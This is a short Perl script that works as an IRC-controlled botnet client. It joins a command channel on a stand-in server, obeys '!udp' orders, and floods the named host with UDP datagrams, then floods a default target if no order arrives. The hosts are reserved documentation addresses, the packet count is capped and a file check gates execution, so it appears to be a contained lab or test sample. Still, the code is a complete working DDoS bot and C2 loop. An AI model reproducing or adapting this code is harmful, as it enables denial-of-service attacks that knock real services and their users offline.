# Joins a channel and waits for an order; after fifteen seconds without one it floods its last target: at most 2,000 datagrams in all.
use strict; use warnings; use IO::Socket::INET;
exit 0 unless -e "/usr/share/doc/stand-in/README";
$SIG{PIPE} = "IGNORE";
my $irc = IO::Socket::INET->new(PeerAddr => "irc.night-ferry.example", PeerPort => 6667, Timeout => 5) or exit 1;
$irc->autoflush(1);
my $nick = "lnx" . int(rand(90000) + 10000);
print $irc "NICK $nick\r\nUSER $nick 8 * :$nick\r\n";
my ($start, $left, $joined) = (time, 2000, 0);
sub flood {
    my ($host, $port, $count) = @_;
    my $socket = IO::Socket::INET->new(Proto => "udp", PeerAddr => $host, PeerPort => $port) or return;
    while ($count-- > 0 && $left-- > 0) { $socket->send("x" x 512); select(undef, undef, undef, 0.01) unless $count % 50 }
}
while (time < $start + 15) {
    my $set = ''; vec($set, fileno($irc), 1) = 1;
    next unless select($set, undef, undef, 1);
    my $line = <$irc>; last unless defined $line;
    print $irc "PONG $1\r\n" if $line =~ /^PING (\S+)/;
    if (!$joined && $line =~ / 00[1-4] | 376 | 422 /) { print $irc "JOIN #ferry standin\r\n"; $joined = 1 }
    if ($line =~ /!udp (198\.51\.100\.\d+|203\.0\.113\.\d+|192\.0\.2\.\d+) (\d+)/) { print $irc "PRIVMSG #ferry :flooding $1\r\n"; flood($1, $2, 1000) }
}
flood("192.0.2.80", 80, 1500);
print $irc "PRIVMSG #ferry :done\r\nQUIT\r\n";
